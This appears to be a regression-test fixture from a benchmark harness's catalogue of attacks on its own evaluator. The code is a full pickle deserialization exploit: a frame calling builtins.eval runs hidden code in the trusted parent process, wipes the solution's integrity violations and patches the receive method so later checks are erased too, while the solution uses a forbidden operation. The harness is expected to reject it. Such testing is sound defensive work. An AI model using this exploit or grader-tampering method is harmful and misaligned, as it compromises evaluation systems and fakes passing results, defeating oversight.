"""Catalogue #45 (and #6, #37): code execution in the evaluator through the result channel.

Trick: the parent reads every answer of the worker with ``pickle``. Write, on the worker's pipe
(the descriptor named on its command line; ``os.write`` raises no audit event), one frame whose
pickle calls ``builtins.eval`` when the parent loads it. The code then runs in the trusted,
unsandboxed evaluator: it reads the worker's genuine answer itself and strips its integrity
findings, and patches the parent's ``WorkerHandle._recv`` so that every later answer loses its
findings too. The solution computes with plain PyTorch products (``torch.bmm``, forbidden).
Before the answers were read with an allow-list unpickler this got ``ok`` on the CPU (and the
parent could as well have rewritten the store or the results file). Expected now:
``integrity_violation`` / ``forged_answer``: the parent refuses the frame, which names a global
outside the allow-list (``builtins.eval``).
"""
import base64
import os
import struct
import sys

import torch

EXPECT = {"status": "integrity_violation", "rule": "forged_answer", "catalogue": [45, 6, 37], "device": "cpu",
          "static": ["ast_forbidden_call"], "static_checks": False, "evidence": "builtins.eval"}

_COEFFS = [(8.156554524902461, -22.48329292557795, 15.878769915207462),
           (4.042929935166739, -2.808917465908714, 0.5000178451051316),
           (3.8916678022926607, -2.772484153217685, 0.5060648178503393),
           (3.285753657755655, -2.3681294933425376, 0.46449024233003106),
           (2.3465413258596377, -1.7097828382687081, 0.42323551169305323)]

# Runs in the evaluator (the parent) while it unpickles the frame below.
_IN_PARENT = """
import sys
import d2kbench.harness.process as P
f = sys._getframe()
while f.f_code.co_name != '_recv':
    f = f.f_back
handle = f.f_locals['self']
reply = handle.conn.recv()          # the worker's genuine answer to this request
reply['violations'] = []
if not getattr(P.WorkerHandle, '_owned', False):
    orig = P.WorkerHandle._recv
    def _recv(self, timeout_s, what, _orig=orig):
        r = _orig(self, timeout_s, what)
        if isinstance(r, dict):
            r['violations'] = []
        return r
    P.WorkerHandle._recv = _recv
    P.WorkerHandle._owned = True
"""


def _frame() -> bytes:
    code = base64.b64encode(_IN_PARENT.encode()).decode()
    expr = f"(lambda g: (exec(__import__('base64').b64decode('{code}').decode(), g), g['reply'])[1])({{}})"
    data = b"cbuiltins\neval\n(V" + expr.encode() + b"\ntR."  # pickle protocol 0: eval(expr)
    return struct.pack("!i", len(data)) + data  # multiprocessing.connection's framing


def _polar(G):
    tall = G.shape[1] > G.shape[2]
    X = (G.mT if tall else G).float()
    X = (X / (X.flatten(1).norm(dim=1)[:, None, None] * 1.02 + 1e-6)).half()
    for a, b, c in _COEFFS:
        A = torch.bmm(X, X.mT)
        B = b * A + c * torch.bmm(A, A)
        X = (a * X.float() + torch.bmm(B, X).float()).half()
    X = X.to(G.dtype)
    return X.mT.contiguous() if tall else X


def run(G, steps=5):
    os.write(int(sys.argv[-1]), _frame())
    return _polar(G)
